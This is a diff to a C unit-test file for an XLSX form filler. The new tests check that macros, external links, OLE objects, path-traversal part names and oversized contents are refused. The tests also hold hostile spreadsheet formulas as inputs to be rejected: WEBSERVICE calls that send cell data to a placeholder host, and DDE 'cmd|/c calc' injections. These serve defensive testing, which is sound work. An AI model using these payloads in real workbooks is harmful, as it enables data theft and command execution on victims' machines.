@@ -3,6 +3,7 @@
 
 #include "paper/xlsx_fill.h"
 #include "paper/xlsx_form.h"
+#include "paper/xlsx_formula.h"
 #include "sys/sys.h"
 
 struct bench {
@@ -185,6 +186,20 @@ static void cells_and_rows_that_are_not_there(void **state)
 		"<x:worksheet><x:sheetData><x:row r=\"2\"><x:c r=\"B2\"><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>");
 }
 
+/* What is nested as no spreadsheet nests it is cut once, and ends no program. */
+static void values_within_values(void **state)
+{
+	struct bench *b = *state;
+	struct str out = FILLED(b,
+		book_make(&b->cx,
+			&(struct book_parts){
+				.rows = "<row r=\"1\"><c r=\"A1\"><f>1+1</f><v>2<v>3</v>4</v></c><c r=\"B1\"/></row>" }),
+		NUMBER(2, 1, "7"));
+
+	holds(part_of(b, out, "xl/worksheets/sheet1.xml"),
+		"<row r=\"1\"><c r=\"A1\"><f>1+1</f></c><c r=\"B1\"><v>7</v></c></row>");
+}
+
 /* A date is a number where the cell shows numbers as dates, and words elsewhere. */
 static void a_date_is_written_as_the_cell_shows_dates(void **state)
 {
@@ -305,6 +320,139 @@ static void what_is_no_form_is_refused(void **state)
 	holds(b->cx.e.en, "One!B2");
 }
 
+#define RELATION(type, more) \
+	"<Relationships><Relationship Id=\"rId9\" Type=\"http://x" type "\" Target=\"y\"" more \
+	"/></Relationships>"
+
+static void form_is(struct bench *b, struct str book, const char *refusal)
+{
+	struct xlsx_form_sheet *all;
+	size_t n;
+	int e = form_read(b, book, &all, &n);
+
+	if (!refusal && e)
+		fail_msg("%.*s", STR_ARG(b->cx.e.en));
+	if (refusal && !e)
+		fail_msg("taken: %s", refusal);
+	if (refusal)
+		holds(b->cx.e.en, refusal);
+}
+
+static struct str with_relations(struct bench *b, const char *content)
+{
+	static const char *const parts[] = { PARTS };
+	zip_source_t *source;
+	struct str plain = form(b);
+	zip_t *zip = book_begin(&source);
+
+	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++)
+		book_add(zip, parts[i], part_of(b, plain, parts[i]).p);
+	book_add(zip, "xl/worksheets/_rels/sheet1.xml.rels", content);
+	return book_packed(&b->cx, zip, source);
+}
+
+/* A part is what its relation says, whatever it is called. */
+static void what_a_part_is_called_hides_nothing(void **state)
+{
+	struct bench *b = *state;
+
+	form_is(b, with_relations(b, RELATION("/hyperlink", " TargetMode=\"External\"")), NULL);
+	form_is(b, with_relations(b, RELATION("/printerSettings", "")), NULL);
+	form_is(b, with_relations(b, RELATION("/vbaProject", "")), "macros");
+	form_is(b, with_relations(b, RELATION("/xlMacrosheet", "")), "macros");
+	form_is(b, with_relations(b, RELATION("/externalLink", "")), "links to other files");
+	form_is(b, with_relations(b, RELATION("/connections", "")), "other systems");
+	form_is(b, with_relations(b, RELATION("/oleObject", "")), "other files in it");
+	form_is(b, with_relations(b, RELATION("/image", " TargetMode=\"External\"")), "fetches");
+	form_is(b, with_relations(b, "<Relationships><Relationship"), "no well-formed XML");
+	form_is(b, with_part(b, "../../etc/cron.d/x"), "a name that none has");
+	form_is(b, with_part(b, "xl\\\\x.xml"), "a name that none has");
+	form_is(b,
+		book_make(&b->cx,
+			&(struct book_parts){
+				.workbook =
+					"<workbook xmlns:r=\"" BOOK_RELATIONS
+					"\"><sheets><sheet name=\"1\" r:id=\"rId1\"/><sheet name=\"2\" r:id=\"rId1\"/></sheets></workbook>" }),
+		"two sheets are one part");
+}
+
+static void formulas_stay_in_the_workbook(void **state)
+{
+	static const char *const taken[] = { "SUM(B2:B9)", "IF(A1=\"WEBSERVICE(1)\",1,2)",
+		"'a|b'!A1", "HYPERLINK( \"#说明!A1\",\"说明\")", "MYCALL(1)",
+		"ROUND(REGISTERED,1)" };
+	static const char *const wrong[] = { "WEBSERVICE(\"http://x/?\"&B2)",
+		"_xlfn.webservice (A1)", "1+HYPERLINK(\"http://x/\"&B2,\"说明\")",
+		"DDE(\"soffice\",\"x\",\"y\")", "cmd|'/c calc'!A1", "'cmd'|'/c calc'!A1",
+		"RTD(\"a\",,\"b\")", "SUM(1,CUBEVALUE(\"x\"))", "_xlfn.IMAGE(A1)" };
+	struct bench *b = *state;
+
+	for (size_t i = 0; i < sizeof(taken) / sizeof(*taken); i++)
+		if (xlsx_formula_reaches(str_of(taken[i])))
+			fail_msg("%s", taken[i]);
+	for (size_t i = 0; i < sizeof(wrong) / sizeof(*wrong); i++)
+		if (!xlsx_formula_reaches(str_of(wrong[i])))
+			fail_msg("%s", wrong[i]);
+	form_is(b,
+		book_make(&b->cx,
+			&(struct book_parts){
+				.rows = "<row r=\"2\"><c r=\"B2\"><f>_xlfn.WEBSERVICE(A1)</f></c></row>" }),
+		"One!B2 reaches out");
+}
+
+/* A text that cells share counts as often as they do. */
+static void texts_that_are_shared_have_their_limit(void **state)
+{
+	struct bench *b = *state;
+	struct buf strings, rows;
+
+	for (int more = 0; more < 2; more++) {
+		buf_init(&strings, b->cx.arena);
+		buf_z(&strings, "<sst><si><t>");
+		for (size_t i = 0; i < XLSX_FORM_TEXT_MAX / 64; i++)
+			buf_c(&strings, 'x');
+		buf_z(&strings, "</t></si></sst>");
+		buf_init(&rows, b->cx.arena);
+		for (int r = 1; r <= 64 + more; r++)
+			buf_fmt(&rows, "<row r=\"%d\"><c t=\"s\"><v>0</v></c></row>", r);
+		form_is(b,
+			book_make(&b->cx,
+				&(struct book_parts){
+					.rows = buf_get(&rows).p, .strings = buf_get(&strings).p }),
+			more ? "MiB of text" : NULL);
+	}
+}
+
+/* The parts of the usual form and one more, that is as long as all of them together are to be. */
+static struct str padded(struct bench *b, size_t bytes)
+{
+	static const char *const parts[] = { PARTS };
+	struct str plain = form(b);
+	zip_source_t *source;
+	zip_t *zip = book_begin(&source);
+	struct buf rest;
+
+	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++) {
+		struct str part = part_of(b, plain, parts[i]);
+
+		book_add(zip, parts[i], part.p);
+		bytes -= part.n;
+	}
+	buf_init(&rest, b->cx.arena);
+	while (bytes--)
+		buf_c(&rest, 'x');
+	book_add(zip, "xl/media/i.png", buf_get(&rest).p);
+	return book_packed(&b->cx, zip, source);
+}
+
+static void what_it_unpacks_to_has_its_limit(void **state)
+{
+	struct bench *b = *state;
+
+	form_is(b, padded(b, XLSX_FORM_UNPACKED_MAX), NULL);
+	form_is(b, padded(b, XLSX_FORM_UNPACKED_MAX + 1), "unpacks to more than 8 MiB");
+}
+
 /* Just so many cells, and one more; a part that unpacks to more than any form has. */
 static void a_form_has_its_limits(void **state)
 {
@@ -346,12 +494,17 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test_setup_teardown(only_what_is_named_changes, begin, end),
 		cmocka_unit_test_setup_teardown(cells_and_rows_that_are_not_there, begin, end),
+		cmocka_unit_test_setup_teardown(values_within_values, begin, end),
 		cmocka_unit_test_setup_teardown(
 			a_date_is_written_as_the_cell_shows_dates, begin, end),
 		cmocka_unit_test_setup_teardown(what_cannot_be_filled_is_refused, begin, end),
 		cmocka_unit_test_setup_teardown(what_is_said_of_computing_is_kept, begin, end),
 		cmocka_unit_test_setup_teardown(a_form_is_drawn, begin, end),
 		cmocka_unit_test_setup_teardown(what_is_no_form_is_refused, begin, end),
+		cmocka_unit_test_setup_teardown(what_a_part_is_called_hides_nothing, begin, end),
+		cmocka_unit_test_setup_teardown(formulas_stay_in_the_workbook, begin, end),
+		cmocka_unit_test_setup_teardown(texts_that_are_shared_have_their_limit, begin, end),
+		cmocka_unit_test_setup_teardown(what_it_unpacks_to_has_its_limit, begin, end),
 		cmocka_unit_test_setup_teardown(a_form_has_its_limits, begin, end),
 	};
 
